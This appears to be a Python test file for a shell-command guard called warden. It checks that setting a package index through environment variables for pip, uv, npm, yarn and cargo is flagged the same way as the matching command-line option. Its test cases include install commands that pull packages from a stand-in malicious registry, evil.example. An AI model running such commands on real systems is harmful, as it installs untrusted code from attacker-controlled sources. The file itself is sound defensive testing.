"""A package manager's index given in its environment is judged as the same index given as an
option (session 13): ``PIP_INDEX_URL=URL pip install x`` is ``pip install --index-url URL x``."""

import pytest

from warden.action import Action, ActionKind
from warden.check.rules.lint import EXAMPLE_CONTEXT
from warden.check.shell.sem_pkg import env_indexes
from warden.decision import Decision, Verdict

from ..conftest import example_engine

EVIL = "https://evil.example/simple"
X = "https://evil.example"


def decide(command: str) -> Decision:
    action = Action(kind=ActionKind.SHELL, command=command, cwd=EXAMPLE_CONTEXT.cwd)
    return example_engine().check(action, EXAMPLE_CONTEXT)


@pytest.mark.parametrize(
    ("environment", "option"),
    [
        (f"PIP_INDEX_URL={EVIL} pip install requests", f"pip install -i {EVIL} requests"),
        (f"export PIP_EXTRA_INDEX_URL={EVIL}; pip3 install x",
         f"pip3 install --extra-index-url {EVIL} x"),
        (f"env UV_INDEX_URL={EVIL} uv pip install x", f"uv pip install -i {EVIL} x"),
        (f"UV_DEFAULT_INDEX={EVIL} uv sync", f"uv sync --default-index {EVIL}"),
        (f"UV_INDEX='internal={EVIL}' uv add x", f"uv add --index {EVIL} x"),
        (f"npm_config_registry={X} npm i lodash", f"npm i --registry {X} lodash"),
        (f"NPM_CONFIG_REGISTRY={X} npm ci", f"npm ci --registry {X}"),
        (f"YARN_NPM_REGISTRY_SERVER={X} yarn add x", f"yarn add --registry {X} x"),
        (f"CARGO_REGISTRIES_ACME_INDEX={X}/i cargo install x", f"cargo install --index {X}/i x"),
    ],
)  # fmt: skip
def test_an_index_in_the_environment_is_the_index_option(environment: str, option: str) -> None:
    by_option = decide(option)
    assert by_option.verdict is Verdict.ASK, by_option.rules  # (the reference itself)
    by_environment = decide(environment)
    assert by_environment.verdict is by_option.verdict, by_environment.rules
    assert "exec.package-unlisted-source" in by_environment.rules


@pytest.mark.parametrize(
    "command",
    [
        "PIP_INDEX_URL=https://pypi.org/simple pip install requests",
        "GOPROXY=https://proxy.golang.org,direct go install golang.org/x/tools/gopls@latest",
        "GOPROXY=direct go get example.com/x",
        "PIP_INDEX_URL=https://evil.example/simple pip list",  # no install, no fetch from it
        "npm_config_registry=https://registry.npmjs.org/ npm ci",
        "PIP_FIND_LINKS=./wheels pip install --no-index x",
        "UV_INDEX_URL=http://localhost:3141/root/dev/+simple/ uv pip install x",
    ],
)
def test_ordinary_indexes_in_the_environment_pass(command: str) -> None:
    decision = decide(command)
    assert decision.verdict is Verdict.ALLOW, decision.rules


def test_which_variables_each_tool_reads() -> None:
    env = {"PIP_INDEX_URL": "https://a.example", "UV_INDEX_URL": "https://b.example",
           "GOPROXY": "https://c.example|https://d.example,off", "npm_config_@x:registry":
           "https://e.example", "UV_INDEX": "one=https://f.example https://g.example"}  # fmt: skip
    assert env_indexes("pip", env) == ["https://a.example"]
    assert env_indexes("uv", env) == ["https://b.example", "https://f.example", "https://g.example"]
    assert env_indexes("go", env) == ["https://c.example", "https://d.example"]
    assert env_indexes("npm", env) == ["https://e.example"]
    assert env_indexes("cargo", env) == []
